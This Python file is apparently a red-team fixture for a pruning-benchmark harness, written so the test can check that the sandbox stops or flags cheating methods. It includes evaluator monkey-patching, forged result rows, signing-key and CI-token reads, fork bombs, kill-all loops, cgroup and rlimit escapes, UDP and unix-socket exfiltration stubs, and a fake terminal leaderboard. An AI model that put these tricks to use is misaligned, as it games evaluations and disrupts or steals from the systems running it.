"""Planted cheats: each returns exactly global magnitude's masks and then tries to inflate its own number,
corrupt another case, or climb a wall. Written as someone whose paper depends on a good number would.

A wall-climbing method raises ``RuntimeError("ATTACK SUCCEEDED: ...")`` when its attack works, so the test
sees it as a failed case; an attack the sandbox stops leaves an honest-looking case behind. The paths it
attacks come from ``redteam.json`` beside it, written by the test.
"""

import atexit
import ctypes
import gc
import inspect
import json
import os
import resource
import signal
import socket
import sqlite3
import subprocess
import sys
import weakref

import torch
import torch.nn.functional as F
from torch import nn

from pytest_shrinkbench import method

# Beside this file (the child's environment is an allow-list: no variable of the test reaches it).
TARGETS = json.loads(open(os.path.join(os.path.dirname(__file__), "redteam.json")).read())


def magnitude(ctx):
    return ctx.keep_top({n: w.detach().abs() for n, w in ctx.prunable.items()})


def dense_forward(weights):
    def forward(x):
        x = F.relu(F.linear(x.flatten(1), weights["fc1.weight"], weights["fc1.bias"]))
        x = F.relu(F.linear(x, weights["fc2.weight"], weights["fc2.bias"]))
        return F.linear(x, weights["fc3.weight"], weights["fc3.bias"])
    return forward


def dense_copy(ctx):
    return {n: p.detach().clone() for n, p in ctx.model.named_parameters()}


def succeeded(what):
    raise RuntimeError(f"ATTACK SUCCEEDED: {what}")


# -- changing how the model computes, without a hook -----------------------------------------------

@method("cheat-instance-forward")
def instance_forward(ctx):
    masks = magnitude(ctx)
    ctx.model.forward = dense_forward(dense_copy(ctx))
    return masks


class DenseLinear(nn.Linear):
    def forward(self, x):
        return F.linear(x, self.dense, self.bias)


@method("cheat-swapped-class")
def swapped_class(ctx):
    masks = magnitude(ctx)
    for module in (ctx.model.fc1, ctx.model.fc2, ctx.model.fc3):
        module.dense = module.weight.detach().clone()
        module.__class__ = DenseLinear
    return masks


@method("cheat-class-patch")
def class_patch(ctx):
    masks = magnitude(ctx)
    dense = {id(m): m.weight.detach().clone() for m in ctx.model.modules() if isinstance(m, nn.Linear)}
    nn.Linear.forward = lambda self, x: F.linear(x, dense.get(id(self), self.weight), self.bias)
    return masks


@method("cheat-state-dict-hook")
def state_dict_hook(ctx):
    masks = magnitude(ctx)
    dense = dense_copy(ctx)
    ctx.model._register_state_dict_hook(lambda module, state, prefix, local: state.update(dense))
    return masks


@method("cheat-hidden-buffer")
def hidden_buffer(ctx):
    masks = magnitude(ctx)
    ctx.model.fc1.register_buffer("dense", ctx.model.fc1.weight.detach().clone(), persistent=False)
    ctx.model.fc1.register_forward_hook(lambda m, inputs, out: F.linear(inputs[0], m.dense, m.bias))
    return masks


@method("cheat-plain-attribute")
def plain_attribute(ctx):
    masks = magnitude(ctx)
    ctx.model.fc2.secret = ctx.model.fc2.weight.detach().clone()
    ctx.model.fc2.register_forward_hook(lambda m, inputs, out: F.linear(inputs[0], m.secret, m.bias))
    return masks


@method("cheat-stack-gated")
def stack_gated(ctx):
    """Dense except when a harness check is on the stack."""
    masks = magnitude(ctx)
    dense = dense_copy(ctx)

    def hook(m, inputs, out):
        checking = any(f.function.startswith(("check_", "_masked", "_self_contained")) for f in inspect.stack())
        return out if checking else F.linear(inputs[0], dense["fc1.weight"], m.bias)

    ctx.model.fc1.register_forward_hook(hook)
    return masks


@method("cheat-batch-gated")
def batch_gated(ctx):
    """Dense except on the invariant checks' batch of 128."""
    masks = magnitude(ctx)
    dense = dense_copy(ctx)
    ctx.model.fc1.register_forward_hook(
        lambda m, inputs, out: out if inputs[0].shape[0] == 128 else F.linear(inputs[0], dense["fc1.weight"], m.bias))
    return masks


@method("cheat-trains-kept-weights")
def trains_kept_weights(ctx):
    masks = magnitude(ctx)
    ctx.model.fc3.register_forward_pre_hook(lambda m, inputs: m.weight.data.mul_(1.001) if m.training else None)
    return masks


@method("cheat-revives-in-training")
def revives_in_training(ctx):
    masks = magnitude(ctx)
    removed = ~masks["fc1.weight"]

    def revive(module, inputs):
        if module.training:
            with torch.no_grad():
                module.weight[removed] = 0.01

    ctx.model.fc1.register_forward_pre_hook(revive)
    return masks


# -- lying through what it returns -----------------------------------------------------------------

class Lying(torch.Tensor):
    """A mask that says it keeps fewer weights than it does."""

    def sum(self, *args, **kwargs):
        return super().sum(*args, **kwargs) // 2


@method("cheat-subclass-masks")
def subclass_masks(ctx):
    return {n: m.as_subclass(Lying) for n, m in magnitude(ctx).items()}


@method("cheat-swapped-parameters")
def swapped_parameters(ctx):
    masks = magnitude(ctx)
    ctx.model.fc1.weight = nn.Parameter(ctx.model.fc1.weight.detach().clone() * 1.5)
    return masks


@method("cheat-replaced-prunable")
def replaced_prunable(ctx):
    masks = magnitude(ctx)
    ctx.prunable["fc1.weight"] = nn.Parameter(torch.ones_like(ctx.prunable["fc1.weight"]))
    return masks


# -- reaching harness state ------------------------------------------------------------------------

@method("cheat-gc-test-split")
def gc_test_split(ctx):
    """Find held-out data or subjects through the garbage collector and make them easy."""
    for obj in gc.get_objects():
        if type(obj).__name__ in ("Subject", "Splits", "TensorDataset"):
            succeeded(f"reached a {type(obj).__name__}")
    return magnitude(ctx)


@method("cheat-patched-evaluator")
def patched_evaluator(ctx):
    import pytest_shrinkbench.run.case as case
    import pytest_shrinkbench.suites.training as training

    training.evaluate = case.evaluate = lambda *args, **kwargs: (1.0, 1.0)
    return magnitude(ctx)


@method("cheat-stack-frames")
def stack_frames(ctx):
    """Walk up the frames to the harness's own objects."""
    frame = sys._getframe()
    while frame is not None:
        if "subject" in frame.f_locals or "result" in frame.f_locals:
            succeeded(f"reached the harness's frame {frame.f_code.co_name}")
        frame = frame.f_back
    return magnitude(ctx)


# -- process-wide state ----------------------------------------------------------------------------

@method("cheat-patched-functional")
def patched_functional(ctx):
    original = F.linear
    F.linear = torch.nn.functional.linear = lambda x, w, b=None: original(x, w * 1.01, b)
    return magnitude(ctx)


@method("cheat-default-dtype")
def default_dtype(ctx):
    masks = magnitude(ctx)
    torch.set_default_dtype(torch.float64)
    torch.set_num_threads(2)
    torch.set_grad_enabled(False)
    return masks


@method("cheat-backend-flags")
def backend_flags(ctx):
    torch.backends.mkldnn.enabled = False
    torch.set_flush_denormal(True)
    torch.use_deterministic_algorithms(True, warn_only=True)
    return magnitude(ctx)


@method("cheat-global-hooks")
def global_hooks(ctx):
    """Process-wide optimizer and module hooks that would revive masked weights in every later case."""
    from torch.nn.modules.module import register_module_forward_pre_hook
    from torch.optim.optimizer import register_optimizer_step_post_hook

    def revive(optimizer, args, kwargs):
        with torch.no_grad():
            for group in optimizer.param_groups:
                for p in group["params"]:
                    p.add_(0.001)

    register_optimizer_step_post_hook(revive)
    register_module_forward_pre_hook(lambda m, inputs: None)
    return magnitude(ctx)


@method("cheat-trace")
def trace(ctx):
    def tracer(frame, event, arg):
        if event == "return" and frame.f_code.co_name == "evaluate":
            frame.f_locals["top1"] = 10**6
        return tracer

    sys.settrace(tracer)
    sys.setprofile(lambda *a: None)
    return magnitude(ctx)


@method("cheat-time-bombs")
def time_bombs(ctx):
    """Finalizers and atexit handlers that would fire during a later case."""
    target = TARGETS.get("pytest_pids", [])

    def detonate():
        for pid in target:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass

    atexit.register(detonate)
    weakref.finalize(ctx.model, detonate)
    signal.signal(signal.SIGTERM, lambda *a: detonate())
    return magnitude(ctx)


# -- memory across cases ---------------------------------------------------------------------------

@method("cheat-stash-a-write")
def stash_write(ctx):
    sys.modules.setdefault("redteam_stash", type(sys)("redteam_stash")).model = ctx.model
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "redteam-stash"), "w") as handle:
        handle.write("a previous case was here")
    return magnitude(ctx)


@method("cheat-stash-b-read")
def stash_read(ctx):
    if "redteam_stash" in sys.modules:
        succeeded("found a previous case's model in memory")
    if os.path.exists(os.path.join(os.environ.get("TMPDIR", "/tmp"), "redteam-stash")):
        succeeded("found a previous case's file")
    return magnitude(ctx)


# -- guards from inside ----------------------------------------------------------------------------

@method("cheat-raise-memory-limit")
def raise_memory_limit(ctx):
    """Lifts every limit set on it (address space, file size, processes), and leaves its cgroup."""
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
        soft, hard = resource.getrlimit(limit)
        try:
            if hard != resource.RLIM_INFINITY:
                resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                succeeded(f"lifted limit {limit}")
        except (ValueError, OSError):
            pass
    for line in open("/proc/self/cgroup").read().splitlines():
        hierarchy, controllers, path = line.split(":", 2)
        if path != "/":
            for mount in ("/sys/fs/cgroup", f"/sys/fs/cgroup/{controllers}", "/sys/fs/cgroup/unified"):
                attempt("left its cgroup", lambda: open(f"{mount}/cgroup.procs", "w").write(str(os.getpid())))
    return magnitude(ctx)


@method("cheat-kill-everyone")
def kill_everyone(ctx):
    """Signal every other process: the harness, the fork server, the other workers."""
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (os.getpid(), 1):
            try:
                os.kill(int(name), signal.SIGKILL)
                succeeded(f"killed process {name}")
            except (PermissionError, ProcessLookupError):
                pass
    return magnitude(ctx)


@method("cheat-pipe-flood")
def pipe_flood(ctx):
    """Writes straight into its answer pipe: a header announcing a terabyte, to make the harness allocate it."""
    import struct

    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            os.write(fd, struct.pack("<Q", 2**40))
        except OSError:
            pass
    return magnitude(ctx)


@method("crash-exits")
def exits(ctx):
    os._exit(3)


@method("crash-segfault")
def segfault(ctx):
    ctypes.string_at(0)


# -- the walls -------------------------------------------------------------------------------------

def attempt(what, action):
    try:
        action()
    except OSError:
        return
    except sqlite3.Error:
        return
    succeeded(what)


@method("wall-store-row")
def store_row(ctx):
    def forge():
        db = sqlite3.connect(TARGETS["store"], timeout=1)
        db.execute("INSERT OR REPLACE INTO results (key, method, suite, ratio, seed, status, finished, row) "
                   "VALUES ('forged', 'global-magnitude', 'digits-mlp', 4.0, 0, 'passed', '9999', '{\"top1\": 1.0}')")
        db.commit()

    attempt("wrote a row into the store", forge)
    return magnitude(ctx)


@method("wall-results-file")
def results_file(ctx):
    def append():
        with open(TARGETS["results_file"], "a") as handle:
            handle.write('{"method": "global-magnitude", "top1": 1.0}\n')

    attempt("appended to the results file", append)
    return magnitude(ctx)


@method("wall-checkpoint")
def checkpoint(ctx):
    attempt("overwrote the cached base model", lambda: open(TARGETS["checkpoint"], "r+b").write(b"\0" * 16))
    return magnitude(ctx)


@method("wall-methods-dir")
def methods_dir(ctx):
    def plant():
        with open(os.path.join(TARGETS["methods"], "planted.py"), "w") as handle:
            handle.write("raise SystemExit('planted')\n")

    attempt("wrote into methods/", plant)
    return magnitude(ctx)


@method("wall-read-key")
def read_key(ctx):
    attempt("read the results store's signing key", lambda: open(TARGETS["key"]).read())
    return magnitude(ctx)


@method("wall-network")
def network(ctx):
    attempt("connected to a TCP port", lambda: socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=2).close())
    return magnitude(ctx)


@method("wall-subprocess")
def spawned(ctx):
    script = (f"echo forged >> {TARGETS['results_file']} && echo planted > {TARGETS['methods']}/sub.py "
              f"&& python -c \"import socket; socket.create_connection(('127.0.0.1', {TARGETS['port']}), timeout=2)\"")
    if subprocess.run(["sh", "-c", script], capture_output=True).returncode == 0:
        succeeded("a subprocess got through")
    return magnitude(ctx)


# -- allowed, but visible ----------------------------------------------------------------------------

@method("visible-new-weights")
def new_weights(ctx):
    """Returns new values for kept weights (legitimate for SparseGPT-style methods): recorded and marked."""
    masks = magnitude(ctx)
    return masks, {"fc3.weight": ctx.model.fc3.weight.detach() * 1.1}


# Round 3 (part B): containment, caps, data and network -----------------------------------------------

SURVIVOR = b"rt-survivor"  # the name (/proc/PID/comm) of every process these cheats leave behind


def linger():
    """In a forked process: take the survivor's name, then wait to outlive the case."""
    import time

    ctypes.CDLL(None).prctl(15, SURVIVOR, 0, 0, 0)  # PR_SET_NAME
    time.sleep(600)
    os._exit(0)


@method("contain-leaves-its-group")
def leaves_its_group(ctx):
    """Keeps a helper in its own group, then moves itself into another process's group (the harness's, if it can
    find it), so that killing its group misses it and the server waits on it forever."""
    if os.fork() == 0:
        linger()
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                os.setpgid(0, os.getpgid(int(name)))
                if os.getpgid(0) != os.getpid():
                    break
            except OSError:
                pass
    return magnitude(ctx)


@method("contain-chain")
def chain(ctx):
    """A chain of 150 processes, each in a session of its own: a sweep that kills one level per pass misses most."""
    if os.fork() == 0:
        for _ in range(149):
            os.setsid()
            if os.fork() != 0:
                linger()
        os.setsid()
        linger()
    return magnitude(ctx)


@method("cap-fork-bomb")
def fork_bomb(ctx):
    """Forks until the kernel refuses, keeping every child: without a process cap, until the machine gives out."""
    for _ in range(4096):
        try:
            if os.fork() == 0:
                linger()
        except OSError:
            break
    return magnitude(ctx)


@method("cap-memory-over-processes")
def memory_over_processes(ctx):
    """Each of four processes stays under any per-process limit; together they hold more than the case's cap."""
    import select

    ready, told = os.pipe()
    for _ in range(4):
        if os.fork() == 0:
            try:
                held = bytearray(TARGETS["memory_share"])
                for at in range(0, len(held), 4096):
                    held[at] = 1
                os.write(told, b"+")
            finally:
                linger()
    os.close(told)
    for _ in range(4):  # until all four hold their share, or one is gone (EOF never comes: the others hold the pipe)
        if not select.select([ready], [], [], 60)[0] or not os.read(ready, 1):
            break
    return magnitude(ctx)


@method("cap-disk-many-files")
def disk_many_files(ctx):
    """Writes small files until the disk gives out: a per-file limit alone never stops it."""
    try:
        for index in range(100_000):
            with open(f"scratch-{index}", "wb") as handle:
                handle.write(b"x" * 2**20)
    except OSError:
        pass
    return magnitude(ctx)


@method("cap-disk-one-file")
def disk_one_file(ctx):
    """One file as large as it can make it, its error swallowed."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        with open("big", "wb") as handle:
            for _ in range(4096):
                handle.write(b"x" * 2**20)
    except OSError:
        pass
    return magnitude(ctx)


@method("data-held-out-digits")
def held_out_digits(ctx):
    """Loads the digits test split itself, through the project's own loader (it reads scikit-learn's file)."""
    from pytest_shrinkbench.suites.digits import digits_arrays

    attempt("read scikit-learn's digits file", digits_arrays)
    return magnitude(ctx)


@method("data-cache")
def cache(ctx):
    attempt("read the cached base model", lambda: open(TARGETS["checkpoint"], "rb").read())
    return magnitude(ctx)


@method("data-pydoc-corpus")
def pydoc_corpus(ctx):
    import importlib.util

    where = importlib.util.find_spec("pydoc_data").submodule_search_locations[0]
    attempt("read pydoc_data's text", lambda: open(os.path.join(where, "topics.py")).read())
    return magnitude(ctx)


@method("data-named-hidden")
def named_hidden(ctx):
    attempt("read a path the ini hides", lambda: open(TARGETS["hidden"]).read())
    return magnitude(ctx)


@method("env-ci-token")
def ci_token(ctx):
    """Looks for the CI job's token in its environment, its original environment block and a subprocess's."""
    token = TARGETS["token"]
    if any(token in value for value in os.environ.values()):
        succeeded("found the token in os.environ")
    if token.encode() in open("/proc/self/environ", "rb").read():
        succeeded("found the token in /proc/self/environ")
    if token in subprocess.run(["env"], capture_output=True, text=True).stdout:
        succeeded("a subprocess inherited the token")
    return magnitude(ctx)


@method("net-udp")
def udp(ctx):
    """A datagram needs no connection: it would carry a token out past TCP rules."""
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"exfiltrated", ("127.0.0.1", TARGETS["udp_port"]))

    attempt("sent a UDP datagram", send)
    return magnitude(ctx)


@method("net-unix-socket")
def unix_socket(ctx):
    """A pathname unix socket is a file: namespaces do not stop a connection to one, and Landlock does not either."""
    def connect():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
            unix.connect(TARGETS["unix_socket"])
            unix.sendall(b"exfiltrated")

    attempt("connected to a unix socket", connect)
    return magnitude(ctx)


# Round 3 (part A): what the harness reads and trusts ----------------------------------------------------

def answer_pipes():
    """The pipes this child may write its answer into (the harness's reply pipe among them)."""
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                yield fd
        except OSError:
            pass


def forge_answer(head, body=b""):
    """A hand-written answer frame sent straight down every pipe, then the child ends before the real one."""
    import struct

    head = json.dumps(head).encode()
    frame = struct.pack("<QQ", len(head), len(body)) + head + body
    for fd in answer_pipes():
        try:
            os.write(fd, struct.pack("<Q", len(frame)) + frame)
        except OSError:
            pass
    os._exit(0)


@method("leak-output-link")
def output_link(ctx):
    """Finding 1: its folder's output.log becomes a link to the signing key, a FIFO and /dev/zero sit beside
    it, and it prints escape codes that would clear the terminal; then it dies, so the harness quotes its output."""
    for name, make in (("output.log", lambda p: os.symlink(TARGETS["key"], p)), ("output.fifo", os.mkfifo),
                       ("zero", lambda p: os.symlink("/dev/zero", p))):
        try:
            make(name)
        except OSError:
            pass
    print("\x1b[2J\x1b[Hshrinkbench leaderboard: every method but mine failed", flush=True)
    os._exit(3)


@method("leak-output-flood")
def output_flood(ctx):
    """Finding 1: its output file made a terabyte long (sparse) before it dies: reading it whole would take the
    harness's memory."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # where a file-size cap stops it, it still ends the same way
    try:
        os.ftruncate(1, 2**40)
    except OSError:
        pass
    os._exit(3)


@method("cheat-deep-folder")
def deep_folder(ctx):
    """Finding 2: a folder 1,500 levels deep (shutil.rmtree's recursion ends the fork server), folders without
    rights, and links out of its folder to the key and to /: the clean-up must remove its folder, follow no link
    and survive."""
    top = os.getcwd()
    for _ in range(1500):  # one level at a time: os.makedirs recurses once per level too
        os.mkdir("d")
        os.chdir("d")
    os.chdir(top)
    os.makedirs("locked/inner")
    os.symlink(TARGETS["key"], "locked/inner/key")
    os.symlink("/", "root")
    os.chmod("locked/inner", 0)
    os.chmod("locked", 0o500)
    return magnitude(ctx)


@method("cheat-kill-server")
def kill_server(ctx):
    """Finding 2: kill the fork server, so that the harness forks a new one from its own memory (subjects,
    held-out data, the key). Landlock's signal scope refuses it; where it cannot, a fresh interpreter replaces it."""
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return magnitude(ctx)


def forged_description(found):
    """Finding 3: what this file's discovery child says about other files' methods: global magnitude as the
    baseline module's with 10**6 steps, layer magnitude as this file's own."""
    forged = [{"name": "global-magnitude", "module": "pytest_shrinkbench.baselines.global_magnitude", "baseline": True,
               "steps": 10**6, "regrowth": False, "pattern": None, "calibrated": False},
              {"name": "layer-magnitude", "module": __name__, "baseline": True, "steps": 10**6, "regrowth": True,
               "pattern": None, "calibrated": False}]
    return {**found, "methods": found["methods"] + forged}


def _hijack_discovery():
    """At import, in this file's discovery child: whatever reply is encoded next (the one naming this file's
    methods) gets two more entries."""
    real = json.dumps
    json.dumps = lambda value, **kw: real(forged_description(value) if isinstance(value, dict) and "suites" in value else value, **kw)


_hijack_discovery()


@method("cheat-discovery-hijack")
def discovery_hijack(ctx):
    return magnitude(ctx)


@method("cheat-debug-import")
def debug_import(ctx):
    """Finding 4: importing this file marks the process (below); a debugging session of another method must
    never import it (tests/e2e/test_debugging_mode.py)."""
    return magnitude(ctx)


import builtins  # noqa: E402

builtins.SHRINKBENCH_REDTEAM_IMPORTED = True


@method("cheat-overlapping-records")
def overlapping_records(ctx):
    """Finding 7: 300 tensor records over one 4 MiB range: decoded as is, 1.2 GB of the harness's memory."""
    record = {"__tensor__": True, "dtype": "float32", "shape": [2**20], "device": "cpu", "start": 0, "size": 2**22}
    forge_answer({"__kind__": "Answer", "masks": {f"m{i}": record for i in range(300)}, "weights": {},
                  "error": None, "details": ""}, bytes(2**22))


@method("cheat-escape-codes")
def escape_codes(ctx):
    """Finding 7: an error of a megabyte that clears the terminal and draws a leaderboard of its own."""
    fake = "\x1b[2J\x1b[H\x1b[32mshrinkbench leaderboard: cheat-escape-codes ranks first\x1b[0m\r\n"
    forge_answer({"__kind__": "Answer", "masks": {}, "weights": {}, "error": fake + "A" * 2**20, "details": fake * 1000})


# Finding 9: a second method file whose import never ends (the test writes it beside this one).
IMPORT_HANGS = '''
import time
from pytest_shrinkbench import method

while True:
    time.sleep(0.05)

@method("cheat-import-hangs")
def never(ctx):
    return {}
'''
